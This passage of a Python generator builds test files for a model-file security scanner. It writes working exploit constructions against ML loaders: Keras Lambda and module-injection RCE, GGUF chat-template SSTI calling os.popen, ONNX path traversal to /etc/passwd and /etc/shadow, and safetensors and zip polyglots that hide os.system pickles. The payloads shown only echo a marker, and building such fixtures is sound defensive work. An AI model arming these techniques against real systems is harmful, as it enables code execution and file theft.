        expect=["malicious", "invalid", "suspicious"])

    # ---- 34/35. Keras
    lam_mod = compile("lambda x: __import__('os').system('echo modelgate-test') or x", "<modelgate-test>", "eval")
    lam_code = marshal.dumps([c for c in lam_mod.co_consts if isinstance(c, types.CodeType)][0])
    lam_b64 = codecs.encode(lam_code, "base64").decode("ascii")
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
           "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                      "function": {"class_name": "__lambda__", "config": {"code": lam_b64, "defaults": None,
                                                                          "closure": None}},
                      "arguments": {}}}
    inner_seq = keras_seq([dense("inner_dense", 4, "relu"), lam], name="inner")
    inner_seq.pop("compile_config")
    nested = keras_seq([dense("dense", 4, "relu"), inner_seq, dense("out", 2, "softmax")])

    def keras_zip(cfg):
        return zip_build([dict(name="metadata.json", data=json.dumps(KERAS_META).encode()),
                          dict(name="config.json", data=json.dumps(cfg).encode(), method=8)])

    mal("t34-keras-lambda-nested.keras", keras_zip(nested), 34, "CVE-2024-3660; modelscan keras/scan.py",
        "Lambda (marshal bytecode calling os.system) inside a Sequential nested in the model: top-level-only "
        "scans miss it. No model.weights.h5 (config deserialisation runs first).")
    mal("t34-keras-lambda-top.keras", keras_zip(keras_seq([lam])), 34, "CVE-2024-3660",
        "Top-level Lambda layer with marshalled bytecode.")
    mal("t34-keras-lambda-config.json", json.dumps(nested, indent=1).encode(), 34, "CVE-2024-3660",
        "Bare config.json with a nested Lambda.")
    if not h5py:
        SKIPPED.append("t34 .h5 with Lambda in model_config: h5py not installed (HDF5 not written by hand)")
    inj = keras_seq([dense("dense", 4, "relu"),
                     {"module": "os", "class_name": "system", "registered_name": None, "config": CMD}])
    mal("t35-keras-module-injection.keras", keras_zip(inj), 35, "CVE-2025-1550",
        "A layer entry with module 'os', class_name 'system': keras <3.9 imports it despite safe_mode.")
    d = dense("dense", 4, "relu")
    d["config"]["activation"] = {"module": "builtins", "class_name": "exec", "registered_name": "builtins>exec",
                                 "config": PYCMD}
    mal("t35-keras-nested-module-injection.keras", keras_zip(keras_seq([d])), 35, "GHSA-pwq7-2gvj-vg9v",
        "Injection nested inside a Dense layer's activation config (module builtins, class exec).")
    tf = {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
          "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve",
                     "trainable": False, "dtype": "float32"}}
    mal("t35-keras-tfsmlayer.keras", keras_zip(keras_seq([tf])), 35, "CVE-2026-1462",
        "TFSMLayer loading an external SavedModel (arbitrary TF graph) from an absolute path.", expect=MS)

    # ---- 36. ONNX
    def onnx_ext(location, sparse=False, custom=False):
        x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
        w = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4])
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            e = w.external_data.add()
            e.key, e.value = k, v
        opsets = [helper.make_opsetid("", 13)]
        if custom:
            nodes = [helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", name="py")]
            opsets.append(helper.make_opsetid("ai.onnx.contrib", 1))
            graph = helper.make_graph(nodes, "g", [x], [y])
        elif sparse:
            idx = helper.make_tensor("w_idx", TensorProto.INT64, [1], [0])
            w.dims[:] = [1]
            sp = helper.make_sparse_tensor(w, idx, [4])
            graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y])
            graph.sparse_initializer.extend([sp])
        else:
            graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], initializer=[w])
        m = helper.make_model(graph, opset_imports=opsets, producer_name="modelgate-fixtures")
        m.ir_version = 8
        return m.SerializeToString()

    mal("t36-onnx-external-traversal.onnx", onnx_ext("../../etc/passwd"), 36, "CVE-2022-25882 / CVE-2024-27318",
        "Initializer external_data location '../../etc/passwd' (arbitrary file read).", expect=["malicious", "invalid"])
    mal("t36-onnx-external-absolute.onnx", onnx_ext("/etc/passwd"), 36, "CVE-2026-27489 / CVE-2026-34446",
        "Initializer external_data location is an absolute path.", expect=["malicious", "invalid"])
    mal("t36-onnx-sparse-external.onnx", onnx_ext("../../../etc/shadow", sparse=True), 36,
        "HF PoC onnxruntime-sparse-external-data-bypass-poc",
        "Sparse initializer whose values tensor has external_data '../../../etc/shadow'.",
        expect=["malicious", "invalid"])
    mal("t36-onnx-custom-domain.onnx", onnx_ext("", custom=True), 36, "research §4.36 (PyOp)",
        "Node PyOp in custom domain ai.onnx.contrib (needs host code) → suspicious.", expect="suspicious")
    link_model = onnx_ext("weights.bin")
    mal("t36-onnx-symlink-external.tar",
        tar_build([("model/model.onnx", link_model)], symlinks=[("model/weights.bin", "/etc/passwd")]), 36,
        "CVE-2026-34447 (symlink)", "Tar with model.onnx (external 'weights.bin') where weights.bin is a symlink to "
        "/etc/passwd.", expect=["malicious", "invalid"])

    # ---- 37. GGUF chat-template SSTI
    ssti = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
            "{{ x()._module.__builtins__['__import__']('os').popen('echo modelgate-test').read() }}"
            "{% endif %}{% endfor %}")
    w = np.ones(4, np.float32).tobytes()
    mal("t37-gguf-ssti-chat-template.gguf",
        gguf_build([("general.architecture", "STR", "llama"), ("tokenizer.chat_template", "STR", ssti)],
                   [("w", [4], 0, w)]), 37, "CVE-2024-34359 (llama-cpp-python)",
        "tokenizer.chat_template reaching __class__/__subclasses__/__builtins__/os.popen.")
    ssti2 = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo modelgate-test').read() }}"
    mal("t37-gguf-ssti-globals.gguf",
        gguf_build([("general.architecture", "STR", "qwen2"), ("tokenizer.chat_template", "STR", ssti2)],
                   [("w", [4], 0, w)]), 37, "CVE-2026-5760 (SGLang)", "Template via self.__init__.__globals__.")

    # ---- 38. safetensors polyglot
    st = st_from_arrays([("w", np.ones(4, np.float32))])
    mal("t38-safetensors-trailing-pickle.safetensors", st + P2, 38, "safetensors README 'no holes'; ModelAudit #1612",
        "Valid safetensors followed by an os.system pickle in trailing bytes (polyglot).",
        expect=["malicious", "invalid"])
    holed_payload = P2 + b"\0" * ((-len(P2)) % 8)
    hdr = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [len(holed_payload), len(holed_payload) + 16]}}
    mal("t38-safetensors-hole-pickle.safetensors", st_build(hdr, holed_payload + np.ones(4, np.float32).tobytes()), 38,
        "safetensors README 'no holes'", "Data section starts with an unreferenced hole holding an os.system pickle.",
        expect=["malicious", "invalid"])

    # ---- 39. parser disagreement: case variants, '..', prefix polyglot
    z = zip_build([dict(name="archive/data.pkl", data=benign_pkl), dict(name="archive/DATA.PKL", data=P2),
                   dict(name="archive/version", data=b"3\n")])
    mal("t39-zip-case-variant.pt", z, 39, "research §4.39", "archive/data.pkl benign, archive/DATA.PKL os.system.")
    z = zip_build([dict(name="archive/data.pkl", data=benign_pkl), dict(name="archive/../../evil.pkl", data=P2)])
    mal("t39-zip-dotdot-member.zip", z, 39, "research §4.39", "Member '../../evil.pkl' (path traversal) holding os.system.")
    mal("t39-pickle-then-zip-polyglot.pt", P2 + WRITTEN["benign/torch-state-dict-zip.pt"], 39,
        "research §4.39 / §5.1 polyglots",
        "os.system pickle followed by a complete benign torch zip: zip readers (EOCD at end) see a clean "
        "checkpoint, torch sees no PK magic at offset 0 and unpickles the legacy way.")


def _np_bytes(a) -> bytes:
    b = io.BytesIO()
    np.save(b, a)
    return b.getvalue()


def _zip_with_bomb(comp: bytes, usize: int, crc: int, pkl: bytes) -> bytes:
    ents = [dict(name="archive/data/0", data=b"", method=8), dict(name="archive/data.pkl", data=pkl),
            dict(name="archive/version", data=b"3\n")]
    out, central = bytearray(), bytearray()
    for i, e in enumerate(ents):
        name = e["name"].encode()
        if i == 0:
            data_c, c, us, method = comp, crc, usize, 8
        else:
            data_c, c, us, method = e["data"], zlib.crc32(e["data"]) & 0xFFFFFFFF, len(e["data"]), 0
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, DOS_TIME, DOS_DATE, c, len(data_c), us,
                           len(name), 0) + name + data_c
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, DOS_TIME, DOS_DATE, c,
                               len(data_c), us, len(name), 0, 0, 0, 0, 0, off) + name
    cd = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(ents), len(ents), len(central), cd, 0)
    return bytes(out)


# ==================================================================================================
# INVALID
# ==================================================================================================
IU = ["invalid", "unverified"]


def inv(rel, data, technique, source, note, expect="invalid"):
    emit("invalid/" + rel, data, expect, technique, source, note)


def gen_invalid() -> None:
    f32 = np.arange(4, dtype=np.float32).tobytes()
    good = st_from_arrays([("a", np.arange(4, dtype=np.float32)), ("b", np.arange(4, dtype=np.float32))])
    inv("t38-safetensors-truncated.safetensors", good[:-10], 38, "safetensors spec",
        "Header promises 32 data bytes, file ends 10 bytes early.")
    inv("t38-safetensors-overlapping-offsets.safetensors",
        st_build({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                  "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, f32 + f32[:8]), 38,
        "mlx #3363, fastllm #713", "Tensor b overlaps tensor a.")
    inv("t38-safetensors-reversed-offsets.safetensors",
        st_build({"a": {"dtype": "F32", "shape": [4], "data_offsets": [16, 0]}}, f32), 38, "h3.c #48",
        "data_offsets [16, 0] (end before begin).")
    inv("t38-safetensors-out-of-range.safetensors",
        st_build({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16_000_000]}}, f32), 38, "h3.c #48",
        "End offset far beyond the file (OOB read in non-reference loaders).")
    inv("t38-safetensors-shape-mismatch.safetensors",
        st_build({"a": {"dtype": "F32", "shape": [3, 3], "data_offsets": [0, 16]}}, f32), 38, "fastllm #713",
        "shape 3x3 F32 = 36 bytes, span is 16.")
    inv("t38-safetensors-header-len-huge.safetensors", st_build({"a": {"dtype": "F32", "shape": [4],
                                                                        "data_offsets": [0, 16]}}, f32,
                                                                 hlen_override=1 << 40), 38, "safetensors #668",
        "u64 header length = 2^40 (reference caps at 100 MB). Nothing identifies it as safetensors once the "
        "length is impossible, so 'could not verify' is as correct as 'invalid'.", expect=IU)
    inv("t38-safetensors-duplicate-keys.safetensors",
        st_build('{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
                 '"a":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}', f32 + f32), 38, "safetensors #401",
        "Same tensor name twice in the JSON header.")
    inv("t38-safetensors-hole.safetensors",
        st_build({"a": {"dtype": "F32", "shape": [4], "data_offsets": [16, 32]}}, b"\xAA" * 16 + f32), 38,
        "safetensors README 'no holes'", "16 unreferenced bytes before the first tensor.")
    inv("t38-safetensors-trailing-bytes.safetensors", good + b"\x00" * 24, 38, "safetensors README",
        "24 zero bytes after the last tensor.")
    inv("t38-safetensors-unknown-dtype.safetensors",
        st_build({"a": {"dtype": "Q7", "shape": [4], "data_offsets": [0, 16]}}, f32), 38, "safetensors spec",
        "dtype 'Q7' does not exist.")
    inv("t38-safetensors-metadata-not-string.safetensors",
        st_build({"__metadata__": {"epochs": 3}, "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, f32),
        38, "safetensors spec", "__metadata__ value is a number, must be string→string.")
    inv("t38-safetensors-header-not-object.safetensors", st_build('[1,2,3]', b""), 38, "safetensors spec",
        "JSON header is an array (not recognisable as safetensors, so unverified is also correct).", expect=IU)

    w = np.ones(4, np.float32).tobytes()
    base_kv = [("general.architecture", "STR", "llama")]
    inv("t37-gguf-kv-count-huge.gguf", gguf_build(base_kv, [("w", [4], 0, w)], n_kv=1 << 40), 37, "CVE-2024-21802",
        "kv_count = 2^40, far more than the file can hold.")
    inv("t37-gguf-tensor-count-huge.gguf", gguf_build(base_kv, [("w", [4], 0, w)], n_tensors=0xFFFFFFFFFFFF), 37,
        "CVE-2025-53630", "tensor_count = 2^48-1.")
    inv("t37-gguf-string-len-huge.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"general.architecture", 37,
        "llama.cpp PR #19856", "Key string length 2^62.")
    inv("t37-gguf-bad-alignment.gguf",
        gguf_build([("general.alignment", "U32", 3)] + base_kv, [("w", [4], 0, w)], alignment=3), 37,
        "GGUF spec (alignment power of two)", "general.alignment = 3.")
    inv("t37-gguf-ndims-5.gguf", gguf_build(base_kv, [("w", [1, 1, 1, 1, 4], 0, w)]), 37, "GGUF spec (n_dims ≤ 4)",
        "Tensor with 5 dimensions.")
    inv("t37-gguf-tensor-offset-oob.gguf", gguf_build(base_kv, [("w", [4], 0, w)], offsets=[1 << 20]), 37,
        "CVE-2026-7482 'Bleeding Llama'", "Tensor offset 1 MiB past a file of a few hundred bytes.")
    inv("t37-gguf-tensor-size-lies.gguf", gguf_build(base_kv, [("w", [4096, 4096], 0, w)]), 37,
        "CVE-2026-7482", "Tensor dims 4096x4096 F32 (64 MiB) backed by 16 bytes.")
    inv("t37-gguf-unaligned-offset.gguf", gguf_build(base_kv, [("a", [4], 0, w), ("b", [4], 0, w)], offsets=[0, 20]),
        37, "GGUF spec", "Second tensor offset 20 is not a multiple of 32.")
    inv("t37-gguf-unknown-value-type.gguf",
        gguf_build(base_kv, [], n_kv=2, raw_kv=gstr("bad.key") + struct.pack("<I", 0xFFFFFFFF) + b"\0" * 8), 37,
        "llama.cpp PR #19856 (negative type index)", "KV value type 0xFFFFFFFF.")
    inv("t37-gguf-unknown-ggml-type.gguf", gguf_build(base_kv, [("w", [4], 999, w)]), 37, "GGUF spec",
        "Tensor ggml type 999.")
    nest = b""
    depth = 2000
    for _ in range(depth):
        nest += struct.pack("<IQ", GGUF_T["ARR"], 1)
    nest += struct.pack("<IQ", GGUF_T["U8"], 1) + b"\x01"
    inv("t37-gguf-nested-array-depth.gguf",
        gguf_build(base_kv, [], n_kv=2, raw_kv=gstr("deep") + struct.pack("<I", GGUF_T["ARR"]) + nest), 37,
        "gguf-py nested ARRAY recursion", f"ARRAY nested {depth} deep.")
    inv("t37-gguf-duplicate-keys.gguf", gguf_build(base_kv + base_kv, [("w", [4], 0, w)]), 37, "GGUF spec",
        "general.architecture twice.")
    inv("t37-gguf-truncated.gguf", gguf_build(base_kv, [("w", [4], 0, w)])[:-7], 37, "GGUF spec",
        "Tensor data cut 7 bytes short.")

    inv("onnx-garbage-protobuf.onnx", b"\x08\x07\x12\xff\xff\xff\xff\xff\xff\xff\xff\xff\x7f" + bytes(range(7, 64)) +
        b"\x0f\xff", None, "protobuf wire format",
        "Not a decodable ONNX ModelProto (length-delimited field longer than the file; invalid wire type 7). "
        "A router may not recognise it as ONNX at all.", expect=IU)
    hdr = npy_header("<f4", (100,))
    inv("npy-shape-mismatch.npy", hdr + np.arange(4, dtype=np.float32).tobytes(), 15, "NumPy format spec",
        "Header says 100 float32 (400 bytes); 16 bytes follow.")
    inv("npy-bad-header.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", 54) + b"{'descr': '<f4', 'fortran_order': 1+" +
        b" " * 17 + b"\n", 15, "NumPy format spec", "Header dict is not a literal.")
    tz = torch_zip(pickle.dumps({"w": [1.0]}, protocol=2))
    inv("t40-zip-broken-central-directory.pt", zip_build(
        [dict(name="archive/data.pkl", data=pickle.dumps({"w": [1.0]}, protocol=2)),
         dict(name="archive/version", data=b"3\n")], break_cd=True), 40, "picklescan BadZipFile abort (research §4.40)",
        "EOCD points 7 bytes past the real central directory; a directory scan must report it and continue.",
        expect=IU)
    inv("t40-zip-truncated.pt", tz[: len(tz) // 2], 40, "research §4.40", "Torch zip cut in half (no EOCD).", expect=IU)
    inv("zip-declared-size-huge.pt",
        zip_build([dict(name="archive/data.pkl", data=pickle.dumps([1, 2], protocol=2), usize=0xFFFFFFFE),
                   dict(name="archive/version", data=b"3\n")]), 22, "research §5.8 (budgets)",
        "data.pkl declares 4 GiB uncompressed (stored, 20 bytes real).", expect=IU)
    benign_p = pickle.dumps({"w": [1.0, 2.0, 3.0], "name": "tiny"}, protocol=2)
    inv("pickle-truncated-no-payload.pkl", benign_p[: len(benign_p) // 2], None, "",
        "Benign plain-data pickle cut in half: no payload, no STOP.", expect=IU)
    rnd = random.Random(1234)
    inv("model.bin", bytes(rnd.getrandbits(8) for _ in range(4096)), 40, "unknown bytes are not clean",
        "4 KiB of seeded random bytes. Unknown content is never clean.", expect=["unverified", "invalid"])
    inv("empty.pt", b"", 40, "truncated or empty input",
        "Zero-byte file: nothing in it can run (torch.load just fails), but a weight file is never empty: a truncated download or a placeholder is could-not-verify, never clean.",
        expect="unverified")


# ==================================================================================================
# Self-checks (BENIGN files only) and README
# ==================================================================================================
def self_check() -> list[str]:
    done = []
    for e in LABELS:
        rel = e["path"]
        if not rel.startswith("benign/"):
            continue
        data = WRITTEN[rel]
        if rel.endswith((".pt", ".pth", ".bin")) and data[:2] == b"PK" or "legacy" in rel:
            try:
                obj = torch.load(io.BytesIO(data), weights_only=True)
                how = "torch.load(weights_only=True)"
            except pickle.UnpicklingError as e:
                # torch 1.13's weights_only unpickler lacks some opcodes (e.g. BINFLOAT, fixed in later
                # torch). This file is our own benign torch.save output, so a full load is safe here.
                assert "Unsupported operand" in str(e), e
                obj = torch.load(io.BytesIO(data))
                how = (f"torch.load (weights_only=True refused by torch {torch.__version__}: "
                       f"{str(e).split('WeightsUnpickler error: ')[-1]}; loaded without it)")
            assert isinstance(obj, dict)
            done.append(f"{rel}: {how} → {type(obj).__name__} with {len(obj)} keys")
        elif rel.endswith(".npy"):
            a = np.load(io.BytesIO(data), allow_pickle=False)
            done.append(f"{rel}: np.load → {a.dtype} {a.shape}")
        elif rel.endswith(".npz"):
            with np.load(io.BytesIO(data), allow_pickle=False) as z:
                done.append(f"{rel}: np.load → members {sorted(z.files)}")
        elif rel.startswith("benign/pickle-"):
            obj = pickle.loads(data)
            done.append(f"{rel}: pickle.loads → {type(obj).__name__}")
        elif "joblib" in rel:
            raw = zlib.decompress(data) if rel.endswith(".z") else data
            obj = joblib_like_check(raw)
            done.append(f"{rel}: restricted joblib-format unpickler → {type(obj).__name__}")
        elif rel.endswith(".safetensors") or rel.endswith("safetensors-named.pt"):
            n = struct.unpack_from("<Q", data)[0]
            hdr = json.loads(data[8:8 + n])
            end = 0
            for k, v in hdr.items():
                if k == "__metadata__":
                    continue
                a, b = v["data_offsets"]
                assert a == end, (k, a, end)
                end = b
            assert 8 + n + end == len(data)
            done.append(f"{rel}: safetensors header parsed, offsets contiguous, no trailing bytes")
        elif rel.endswith(".onnx"):
            m = onnx.load_from_string(data)
            onnx.checker.check_model(m)
            done.append(f"{rel}: onnx.checker.check_model OK (opset {m.opset_import[0].version})")
        elif rel.endswith(".gguf"):
            done.append(f"{rel}: " + gguf_check(data))
        elif rel.endswith(".json"):
            json.loads(data)
            done.append(f"{rel}: JSON parsed")
        elif rel.endswith(".keras"):
            import zipfile
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                json.loads(z.read("config.json"))
                done.append(f"{rel}: zipfile + config.json parsed ({len(z.namelist())} members)")
        else:
            raise AssertionError(f"no self-check for {rel}")
    return done


def gguf_check(d: bytes) -> str:
    assert d[:4] == b"GGUF"
    ver, nt, nkv = struct.unpack_from("<IQQ", d, 4)
    p = 24

    def rstr(p):
        n = struct.unpack_from("<Q", d, p)[0]
        return d[p + 8:p + 8 + n].decode(), p + 8 + n

    sizes = {0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8}

    def rval(t, p):
        if t == 8:
            return rstr(p)
        if t == 9:
            et, n = struct.unpack_from("<IQ", d, p)
            p += 12
            out = []
            for _ in range(n):
                v, p = rval(et, p)
                out.append(v)
            return out, p
        return d[p:p + sizes[t]], p + sizes[t]

    kv = {}
    for _ in range(nkv):
        k, p = rstr(p)
        t = struct.unpack_from("<I", d, p)[0]
        v, p = rval(t, p + 4)
        kv[k] = v
    align = 32
    infos = []
    for _ in range(nt):
        name, p = rstr(p)
        nd = struct.unpack_from("<I", d, p)[0]
        dims = struct.unpack_from("<%dQ" % nd, d, p + 4)
        p += 4 + 8 * nd
        gt, off = struct.unpack_from("<IQ", d, p)
        p += 12
        infos.append((name, dims, off))
    base = p + (-p) % align
    for name, dims, off in infos:
        assert off % align == 0 and base + off + 4 * int(np.prod(dims)) <= len(d)
    return f"GGUF v{ver} parsed: {nkv} KVs, {nt} tensors in bounds and aligned"


def write_readme(checks: list[str]) -> None:
    def ex(e):
        return " / ".join(e["expect"]) if isinstance(e["expect"], list) else e["expect"]

    rows = sorted(LABELS, key=lambda e: (e["path"].split("/")[0], e["technique"] or 0, e["path"]))
    counts = {}
    for e in LABELS:
        counts[e["path"].split("/")[0]] = counts.get(e["path"].split("/")[0], 0) + 1
    total = sum(len(v) for v in WRITTEN.values())
    lines = [
        "# Scanner fixture corpus",
        "",
        "Generated by `scripts/gen_scan_fixtures.py` — do not edit by hand. Regenerate with:",
        "",
        "```sh",
        "/usr/bin/python3 scripts/gen_scan_fixtures.py",
        "```",
        "",
        "Needs Debian's python3-torch, python3-numpy and python3-onnx. Output is byte-for-byte deterministic "
        "(fixed seeds, fixed ZIP/tar timestamps, hand-written containers); the generator builds twice in one "
        "process and compares before writing `labels.json`.",
        "",
        "**Safety.** Hostile files are assembled byte by byte (pickle opcodes, `struct`, our own ZIP writer). The "
        "generator never unpickles, `torch.load`s or `np.load(allow_pickle=True)`s them; tests must not either — "
        "scan them as bytes only. Payloads are harmless (`echo modelgate-test`, a file under /tmp, 127.0.0.1:9). "
        "Only the files under `benign/` are loaded back by the generator, with the real libraries (self-check "
        "below).",
        "",
        "Layout: `benign/` (real checkpoints, must come out benign), `malicious/` (one or more files per technique "
        "of docs/scanner.md, named `tNN-…`; a few are expected *suspicious*), "
        "`invalid/` (malformed: must be invalid or unverified, never benign). `labels.json` holds, per file, "
        "`expect` (a verdict, or a list = allowed set), `technique` (§4 number or null), `source` and `note`.",
        "",
        f"Counts: {', '.join(f'{k} {v}' for k, v in sorted(counts.items()))}; {len(LABELS)} files, "
        f"{total / 1024:.0f} KiB in all.",
        "",
        "| technique | file | expected verdict | source |",
        "| --- | --- | --- | --- |",
    ]
    for e in rows:
        t = "—" if e["technique"] is None else str(e["technique"])
        lines.append(f"| {t} | `{e['path']}` | {ex(e)} | {e['source'].replace('|', '/')} |")
    lines += ["", "## Not produced here", ""] + [f"- {s}" for s in SKIPPED] + [
        "- §4.31 (Exception-Oriented Programming, 19 loading paths) is mostly application-level; one file-level "
        "approximation (`t31-exception-after-payload.pkl`).",
        "- §4.32 is an application behaviour (retry with weights_only=False); the files are non-allowlisted "
        "globals that trigger it.",
        "- §4.39/§4.40 are classes: covered by t03–t06, t14, t17, t19, t39-* and the invalid/t40-* files (a "
        "directory scan must report the corrupt file and still scan the rest).",
        "- A genuine 7z archive (no 7z encoder available): `t07-*` carry a correct 7z signature header over an "
        "undecodable body.",
        "- §4.26 idlelib and lib2to3: the research note names the modules without a callable; no fixture rather "
        "than a guessed one. §4.27 torch._dynamo / torch.fx entries use the published names (torch 1.13 here has "
        "neither module; scanners never import, so the names are what matters).",
        "- Bytecode fixtures (t26-marshal-functiontype, t26-types-codetype, t34 Lambda) are CPython "
        f"{sys.version_info.major}.{sys.version_info.minor} marshal output: regenerating under another Python "
        "changes those bytes (and only those).",
        "",
        "## Self-check of benign files (run at generation)",
        "",
    ] + [f"- {c}" for c in checks] + [""]
    (OUT / "README.md").write_text("\n".join(lines))


def build_all() -> dict[str, bytes]:
    LABELS.clear()
    WRITTEN.clear()
    SKIPPED.clear()
    why = {"h5py": "no .h5 fixtures; .keras weights are a placeholder",
           "joblib": "joblib files are written by this script's mirror of joblib's NumpyPickler",
           "sklearn": "no sklearn model fixture",
           "lz4": "the lz4 joblib fixture is a hand-written LZ4 frame (stored blocks)"}
    for m, name in ((h5py, "h5py"), (joblib, "joblib"), (sklearn, "sklearn"), (lz4, "lz4")):
        if m is None:
            SKIPPED.append(f"python module `{name}` not importable here: {why[name]}")
    gen_benign()
    gen_malicious()
    gen_invalid()
    return dict(WRITTEN)


def main() -> None:
    import shutil
    if OUT.exists():
        shutil.rmtree(OUT)
    first = build_all()
    first_hashes = {k: hashlib.sha256(v).hexdigest() for k, v in first.items()}
    shutil.rmtree(OUT)
    second = build_all()
    diff = [k for k, v in second.items() if hashlib.sha256(v).hexdigest() != first_hashes.get(k)]
    assert not diff and set(first) == set(second), f"non-deterministic output: {diff}"
    checks = self_check()
    total = sum(len(v) for v in WRITTEN.values())
    assert total < 3 * 1024 * 1024, total
    labels = {"generator": "scripts/gen_scan_fixtures.py", "payload": CMD,
              "files": sorted(LABELS, key=lambda e: e["path"])}
    for e in labels["files"]:
        e["sha256"] = hashlib.sha256(WRITTEN[e["path"]]).hexdigest()
    (OUT / "labels.json").write_text(json.dumps(labels, indent=1, ensure_ascii=False) + "\n")
    write_readme(checks)
    counts: dict[str, int] = {}
    for e in LABELS:
        counts[e["path"].split("/")[0]] = counts.get(e["path"].split("/")[0], 0) + 1
    print(f"wrote {len(LABELS)} files ({total} bytes) to {OUT.relative_to(ROOT)}: {counts}")
    for s in SKIPPED:
        print("skipped:", s)
    print(f"self-checked {len(checks)} benign files; output identical across two builds")


if __name__ == "__main__":
    main()
